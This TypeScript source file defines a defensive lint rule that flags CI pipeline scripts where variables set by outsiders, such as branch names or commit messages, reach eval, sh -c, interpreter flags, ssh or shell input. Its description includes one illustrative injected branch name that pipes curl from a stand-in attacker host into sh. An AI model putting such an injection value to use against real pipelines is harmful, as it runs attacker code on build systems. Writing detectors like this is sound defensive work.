import { defineRule, type Issue } from '../rule.ts';
import { programOf } from '../shell/program.ts';
import type { Command, Word } from '../shell/types.ts';
import { expansionsIn, scriptOf, shells, upstreamOf } from '../shell/walk.ts';
import type { Job, Moment } from '../types.ts';

/** Interpreters with the flags after which a program text stands. */
const interpreters: Readonly<Record<string, RegExp>> = {
  python: /^-c$/,
  python3: /^-c$/,
  node: /^(?:-e|-p|--eval|--print)$/,
  ruby: /^-e$/,
  perl: /^-[a-z]*e$/,
  php: /^-r$/,
};

export const rule = defineRule({
  id: 'variable-evaluated',
  severity: 'error',
  about:
    'A variable that strangers write (a title, a message, the name of a branch) stands where a shell or an interpreter reads it as a program: ' +
    'in `eval`, in `sh -c "…"`, in a script on standard input, as the name of a command. A branch may be called `$(curl evil.example|sh)`.',
  bad: `build:
  script:
    - bash -c "echo building $CI_COMMIT_REF_NAME"
`,
  good: `build:
  script:
    - bash -c 'echo building "$CI_COMMIT_REF_NAME"'
`,
  check: ({ jobs }) => jobs.flatMap((job) => job.moments.flatMap((moment) => issuesOf(job, moment))),
});

function issuesOf(job: Job, moment: Moment): Issue[] {
  const { command, node } = moment.script;
  return evaluatedWords(command).flatMap(({ word, how }) =>
    expansionsIn(word).flatMap(({ name, offset, text }) => {
      const taint = moment.taintOf(name);
      if (taint === undefined) return [];
      const what = taint.origin === name ? name : `${name}, which holds ${taint.origin},`;
      return [
        {
          node,
          piece: { node, offset, text },
          message: `${job.name}: ${what} is ${how}`,
          expected: 'data that no shell reads as a program',
          fix: `Pass it as an argument in double quotes, or let the program read it from its environment: sh -c 'command "$${name}"'.`,
        },
      ];
    }),
  );
}

interface Evaluated {
  readonly word: Word;
  readonly how: string;
}

/** What a command takes for a program. */
function evaluatedWords(command: Command): readonly Evaluated[] {
  const program = programOf(command);
  if (program === undefined) return [];
  const { name, word, args } = program;
  const all = (words: readonly Word[], how: string) => words.map((one) => ({ word: one, how }));
  const script = scriptOf(command);
  const flag = Object.hasOwn(interpreters, name) ? interpreters[name] : undefined;
  const at = flag === undefined ? -1 : args.findIndex(({ text }) => flag.test(text));
  const reads = shells.has(name) && script === undefined && args.every((one) => one.text.startsWith('-'));
  return [
    { word, how: 'the name of a command' },
    ...all(name === 'eval' ? args : [], 'evaluated by eval'),
    ...all(script === undefined ? [] : [script], `part of the script of ${name} -c`),
    ...all(at < 0 ? [] : args.slice(at + 1, at + 2), `part of a program of ${name}`),
    ...all(name === 'ssh' ? remoteScript(args) : [], 'part of a command that another shell reads'),
    ...all(reads ? inputOf(command) : [], `part of the script that ${name} reads`),
  ];
}

/** The words after the host: ssh joins them, and the shell on the other side reads them anew. */
function remoteScript(args: readonly Word[]): readonly Word[] {
  let at = 0;
  while (args[at]?.text.startsWith('-') === true)
    at += /^-[BbcDEeFIiJLlmOopQRSWw]$/.test(args[at]?.text ?? '') ? 2 : 1;
  return args.slice(at + 1);
}

function inputOf(command: Command): readonly Word[] {
  const given = [...upstreamOf(command)].flatMap((from) => [...(programOf(from)?.args ?? []), ...from.input]);
  return [...command.input, ...given];
}
